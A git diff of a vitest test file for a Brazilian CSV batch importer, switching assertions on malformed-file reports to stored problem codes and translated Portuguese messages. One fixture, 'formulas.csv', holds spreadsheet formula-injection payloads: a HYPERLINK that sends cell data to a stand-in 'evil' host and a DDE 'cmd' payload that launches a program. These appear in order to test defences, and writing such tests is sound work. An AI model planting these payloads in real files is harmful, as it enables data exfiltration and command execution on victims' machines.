@@ -5,6 +5,11 @@ import { describe, expect, it } from 'vitest'
 import { coreWithPrivateKeychain } from '../helpers/core-harness'
 import { BatchJournal, type JobRow } from '../../src-main/services/batch/journal'
 import { exportJob, prepareJob } from '../../src-main/services/batch/service'
+import { importProblemText } from '../../src-shared/domain/import-problems'
+import { createTranslator } from '../../src-shared/i18n'
+
+/** The stored problem code as the analyst reads it (pt-BR). */
+const said = (stored: string | null): string => importProblemText(stored ?? '', createTranslator('pt-BR'))
 
 /* A malformed corpus (issue #8): every file gets a clear report, none crashes, no row is dropped. */
 const h = coreWithPrivateKeychain({ host: 'cli' })
@@ -41,17 +46,15 @@ const corpus: Record<
   },
   'empty.csv': {
     bytes: '',
-    expect: (j) =>
-      expect(j).toMatchObject({ status: 'failed', importProblem: expect.stringContaining('arquivo vazio') }),
+    expect: (j) => expect(j).toMatchObject({ status: 'failed', importProblem: 'import:empty' }),
   },
   'blank-lines.csv': {
     bytes: '\n\n  \n\r\n',
-    expect: (j) =>
-      expect(j).toMatchObject({ status: 'failed', importProblem: expect.stringContaining('arquivo vazio') }),
+    expect: (j) => expect(j).toMatchObject({ status: 'failed', importProblem: 'import:empty' }),
   },
   'header-only.csv': {
     bytes: 'Nome;CPF;Telefone\n',
-    expect: (j) => expect(j).toMatchObject({ totalRows: 0, importProblem: expect.stringContaining('só o cabeçalho') }),
+    expect: (j) => expect(j).toMatchObject({ totalRows: 0, importProblem: 'import:header_only' }),
   },
   'huge-line.csv': {
     bytes: `Nome;CPF\nAna;${CPF}\n${'x'.repeat(10 * 1024 * 1024)};${CPF}\nBia;111.444.777-35\n`,
@@ -63,18 +66,18 @@ const corpus: Record<
   },
   'binary.bin': {
     bytes: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97) % 256)),
-    expect: (j) => expect(j.importProblem).toContain('binário'),
+    expect: (j) => expect(said(j.importProblem)).toContain('não é um CSV (o conteúdo é binário)'),
   },
   'image.png': {
     bytes: Buffer.concat([
       Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
       Buffer.alloc(200, 7),
     ]),
-    expect: (j) => expect(j.importProblem).toContain('binário'),
+    expect: (j) => expect(said(j.importProblem)).toContain('não é um CSV (o conteúdo é binário)'),
   },
   'utf16.csv': {
     bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Nome;CPF\nAna;${CPF}\n`, 'utf16le')]),
-    expect: (j) => expect(j.importProblem).toContain('UTF-16'),
+    expect: (j) => expect(said(j.importProblem)).toContain('UTF-16'),
   },
   'formulas.csv': {
     bytes: `Nome;CPF;Obs\n=HYPERLINK("http://evil/?"&A1);${CPF};@SUM(1+1)\n+cmd|' /C calc'!A0;${CPF};-1+1\n`,
@@ -86,7 +89,7 @@ const corpus: Record<
   },
   'no-identifier.csv': {
     bytes: 'a;b\n1;2\n',
-    expect: (j) => expect(j.importProblem).toContain('nenhuma coluna de CPF'),
+    expect: (j) => expect(said(j.importProblem)).toContain('Nenhuma coluna de CPF ou celular'),
   },
   // Issue #14: one 8 MiB line of commas must not become eight million fields in memory.
   'comma-bomb.csv': {
